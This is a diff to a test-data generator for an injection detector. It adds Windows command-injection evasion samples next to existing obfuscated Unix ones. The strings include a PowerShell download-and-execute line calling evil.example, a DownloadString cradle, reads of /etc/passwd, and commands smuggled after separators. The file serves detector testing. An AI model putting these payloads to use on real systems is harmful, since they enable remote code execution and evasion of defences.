@@ -24,7 +24,9 @@ included):
       substitution ("who``ami", "wh$()oami") or spelt in ANSI-C quoting
       ($'\\x69\\x64'), a command named by a variable assigned in the
       same value (X=id;$X) x leading context (bare, after a value, after
-      a closed quote).
+      a closed quote); Windows commands named by their drive path
+      (C:\\Windows\\System32\\cmd.exe /c dir) and an interpreter given
+      code after a separator (| powershell IEX (iwr ...)).
   tests/data/gen-evade-sqli.txt  boolean injection in a numeric context
       whose predicate is constant without '=' (the detector took other
       literal comparisons for arithmetic prose): 1 AND 2>1, 1 OR 3<>4,
@@ -104,13 +106,18 @@ SPLICED = ['who``ami', 'wh$()oami', 'i``d', 'una``me -a', "$'\\x69\\x64'",
            "$'\\151\\144'", "$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "$'\\x63\\x61\\x74' /etc/passwd",
            'who${x}ami', 'i${NOPE}d']
 VARS = ['X=id;$X', 'a=who;b=ami;$a$b', 'c=uname;${c} -a', 'P=/bin/sh;$P -c id']
+# Windows: a command named by its drive path; an interpreter given code
+WIN = ['C:\\Windows\\System32\\cmd.exe /c dir', 'c:\\windows\\system32\\whoami.exe',
+       'C:/Windows/System32/net.exe user', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop',
+       'powershell IEX (iwr http://evil.example/x)', 'pwsh IEX(New-Object Net.WebClient).DownloadString(0)',
+       'python import os', "perl system('id')"]
 
 
 def cmdi():
     out = []
     for lead in LEAD:
         for sep in [';', '|', '&&', '%0a']:
-            for c in PIPED + SPLICED + VARS:
+            for c in PIPED + SPLICED + VARS + WIN:
                 out.append(lead + sep + c)
         for c in ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'sleep 5']:
             out.append(lead + ';cat <(' + c + ')')
